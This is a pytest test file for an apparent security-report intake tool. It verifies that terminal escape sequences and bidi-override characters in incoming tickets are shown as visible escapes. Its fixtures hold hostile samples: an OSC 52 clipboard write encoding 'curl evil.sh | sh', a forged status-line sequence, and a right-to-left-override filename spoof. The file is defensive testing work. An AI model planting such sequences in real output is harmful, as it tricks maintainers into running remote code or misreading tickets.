"""Safe display (issue 12, finding 4): a stranger's control characters never reach the
maintainer's terminal, on a terminal or piped; JSON keeps the exact text, escaped by JSON."""

from __future__ import annotations

import json
import os
import pty
import re
import select
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conftest import process, report, smtp_send
from intake import display
from intake.cli.app import main

INTAKE = Path(sys.executable).parent / "intake"

# The two attacks of the finding: OSC 52 writes the clipboard (here: "curl evil.sh | sh"); cursor up
# and erase line, then a fake status line.
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
FAKE_LINE = "\x1b[1A\x1b[2Kticket closed as spam"
BODY = f"Steps to reproduce:\n1. log in\n{OSC52}\n{FAKE_LINE}\nC1 CSI \x9b2J, DEL \x7f, BS \x08\n"
SUBJECT = "XSS in the \u202eeliforp\u202c page"
NAME = "Mallory \u2066Evil\u2069"
FILENAME = "invoice\u202efdp.exe"

# Every code point the finding names: C0 but TAB and LF, DEL, C1, bidi marks/overrides/isolates.
FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def hostile_ticket(make_settings, start_intake_listener):
    """A real report carrying both attacks, received over SMTP and processed."""
    settings = make_settings()
    running = start_intake_listener(settings)
    message = report(subject=SUBJECT, body=BODY, message_id="<attack@mallory.test>")
    message.replace_header("From", f"{NAME} <mallory@mallory.test>")
    message.add_attachment(b"MZ", maintype="application", subtype="octet-stream", filename=FILENAME)
    smtp_send(running.port, message, mail_from="mallory@mallory.test")
    [reference] = process(settings, running.engine).tickets_opened
    return reference


def _unescape(shown: str) -> str:
    """The inverse of display.safe: what a reader of the escapes can reconstruct."""
    return re.sub(r"\\(\\|x[0-9a-f]{2}|u[0-9a-f]{4})",
                  lambda m: "\\" if m.group(1) == "\\" else chr(int(m.group(1)[1:], 16)), shown)


_TRICKY = st.sampled_from("\\xuU0123456789abcdef \t\n\r\x00\x07\x1b\x7f\x85\x9b\x9f\u061c\u200e\u200f"
                          "\u202a\u202e\u2066\u2069\ud800\udfff")
TEXT = st.text(alphabet=st.one_of(_TRICKY, st.characters()), max_size=60)


@given(TEXT)
def test_safe_text_has_no_control_and_keeps_inputs_apart(text):
    shown = display.safe(text)
    assert not display.DANGEROUS.search(shown) and not FORBIDDEN.search(shown)
    assert _unescape(shown) == text  # reversible: different inputs are shown differently
    shown.encode("utf-8")  # printable on any UTF-8 terminal, lone surrogates included


@given(TEXT)
def test_json_keeps_the_exact_text_and_no_control(text):
    dumped = display.dumps({"body": text, text: [text]})
    assert not display.DANGEROUS.search(dumped)
    assert json.loads(dumped) == {"body": text, text: [text]}


def test_the_notation():
    assert display.safe("a\x1b[2Kb") == "a\\x1b[2Kb"
    assert display.safe("\u202eabc\r\n\tz") == "\\u202eabc\\x0d\n\tz"
    assert display.safe(r"C:\Temp \n") == r"C:\Temp \n"  # ordinary backslashes stay as they are
    assert display.safe(r"printf '\x1b'") == r"printf '\\x1b'"  # a quoted escape is not a real one


def test_show_on_a_pipe_prints_both_attacks_as_visible_escapes(cli, hostile_ticket):
    shown = cli("show", hostile_ticket).output
    assert not FORBIDDEN.search(shown)
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "| \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07" in shown
    assert "| \\x1b[1A\\x1b[2Kticket closed as spam" in shown
    assert "| C1 CSI \\x9b2J, DEL \\x7f, BS \\x08" in shown
    assert "XSS in the \\u202eeliforp\\u202c page" in shown
    assert "Mallory \\u2066Evil\\u2069" in shown


def test_json_round_trips_the_exact_text_without_raw_controls(cli, hostile_ticket):
    output = cli("show", hostile_ticket, "--json").output
    assert not FORBIDDEN.search(output)  # a terminal it is piped to runs nothing
    data = json.loads(output)
    body = data["thread"][0]["body"]
    assert OSC52 in body and FAKE_LINE in body and "\x9b2J" in body and "\x7f" in body
    assert data["subject"] == SUBJECT
    assert data["thread"][0]["attachments"][0]["original_filename"] == FILENAME
    assert json.loads(cli("tickets", "--json").output)[0]["subject"] == SUBJECT


@pytest.mark.parametrize("command", [["tickets"], ["outbox"], ["outbox", "--json"], ["tickets", "--json"],
                                     ["reminders", "{ref}"], ["show", "{ref}", "--json"],
                                     ["credits", "--format", "json"], ["advisory", "{ref}"]])
def test_listings_print_no_control_characters(cli, hostile_ticket, command):
    output = cli(*[part.format(ref=hostile_ticket) for part in command]).output
    assert not FORBIDDEN.search(output)


def test_errors_that_echo_input_are_escaped(cli, hostile_ticket):
    assert not FORBIDDEN.search(cli("show", f"SEC-{OSC52}", code=1).output)


def _on_a_terminal(args: list[str]) -> tuple[int, str]:
    """Run the intake CLI with a pseudo-terminal as its standard output and error."""
    controller, terminal = pty.openpty()
    child = subprocess.Popen([str(INTAKE), *args], stdin=subprocess.DEVNULL, stdout=terminal, stderr=terminal)
    os.close(terminal)
    chunks = []
    for _ in range(1000):  # bounded: the child exits within seconds
        ready, _, _ = select.select([controller], [], [], 0.1)
        if ready:
            try:
                chunk = os.read(controller, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            chunks.append(chunk)
        elif child.poll() is not None:
            break
    os.close(controller)
    return child.wait(30), b"".join(chunks).decode("utf-8")


def test_on_a_real_terminal_show_prints_the_escapes(config_file, hostile_ticket):
    code, shown = _on_a_terminal(["--config", str(config_file), "show", hostile_ticket])
    assert code == 0
    assert not FORBIDDEN.search(shown.replace("\r\n", "\n"))  # the terminal's own line ends
    assert "\\x1b]52;c;" in shown and "\\x1b[2Kticket closed as spam" in shown


def test_attachment_bytes_are_never_written_to_a_terminal(config_file, hostile_ticket, monkeypatch, capsys):
    controller, terminal = pty.openpty()
    try:
        with open(terminal, "w", closefd=False) as tty:
            monkeypatch.setattr(sys, "stdout", tty)
            with pytest.raises(SystemExit) as exited:
                main(["--config", str(config_file), "attachment", hostile_ticket, "1", "-o", "-"], standalone_mode=False)
            monkeypatch.undo()
        assert exited.value.code == 1
        assert "standard output is a terminal" in capsys.readouterr().err
        assert select.select([controller], [], [], 0)[0] == []  # not a byte reached the terminal
    finally:
        os.close(terminal)
        os.close(controller)


def test_no_cli_output_bypasses_the_display_module():
    """A new command cannot forget the escaping: the CLI prints only through intake.display."""
    modules = sorted((Path(__file__).resolve().parent.parent / "src" / "intake" / "cli").glob("*.py"))
    assert len(modules) >= 2
    for module in modules:
        source = module.read_text()
        assert not re.search(r"click\.(echo|secho|echo_via_pager)\b|\bprint\(|sys\.std(out|err)\.write", source), module


@pytest.mark.parametrize("style", ["logfmt", "json"])
def test_log_lines_of_intake_serve_carry_no_control_characters(style):
    import logging

    from intake.run.logs import StructuredFormatter

    record = logging.LogRecord("intake.test", logging.WARNING, __file__, 1, "event=refused sender=%s", (NAME + OSC52,),
                               None)
    line = StructuredFormatter(style).format(record)
    assert not FORBIDDEN.search(line)
    assert '"Mallory \\u2066Evil\\u2069\\u001b]52;c;' in line
